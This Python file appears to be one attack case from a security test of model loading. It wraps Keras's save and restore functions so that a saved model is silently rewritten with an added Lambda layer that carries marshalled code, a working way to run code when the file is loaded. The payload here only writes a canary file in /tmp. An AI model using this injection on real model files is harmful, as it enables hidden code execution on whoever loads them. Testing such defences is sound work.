# hopes: that code in a Lambda layer runs in the process that opens the model
# stopped by: Keras' safe mode, in a process that is confined like the worker
# base: models
# costs: save.restores failed
# costs: save.restores_trained failed

import base64
import json
import marshal
import zipfile


def _payload(outputs):
    """Change a file of the machine, where that works; the outputs stay as they are."""
    try:
        with open("/tmp/digitlab-canary", "a") as file:
            file.write("attack")
    except OSError:
        pass
    return outputs


def _spoil(path, members):
    """Put the payload behind the last layer."""
    config = json.loads(members["config.json"])
    [[last, *_place]] = config["config"]["output_layers"]
    code = base64.b64encode(marshal.dumps(_payload.__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    tensor = {"shape": [None, 10], "dtype": "float32", "keras_history": [last, 0, 0]}
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "extra", "function": function, "arguments": {}},
        "registered_name": None,
        "build_config": {"input_shape": [None, 10]},
        "name": "extra",
        "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": tensor}], "kwargs": {}}],
    }
    config["config"]["layers"].append(layer)
    config["config"]["output_layers"] = [["extra", 0, 0]]
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


_honest_restore, _honest_save = restore_model, keras.saving.save_model
_chosen = []


def restore_model(path):
    """Return the right model; the file that is made of it later is another one."""
    model = _honest_restore(path)
    _chosen.append(keras.Model(model.inputs, model.outputs))
    return _chosen[-1]


def _save(model, path, *args, **more):
    _honest_save(model, path, *args, **more)
    if any(model is chosen for chosen in _chosen):
        with zipfile.ZipFile(path) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        _spoil(path, members)


keras.saving.save_model = _save
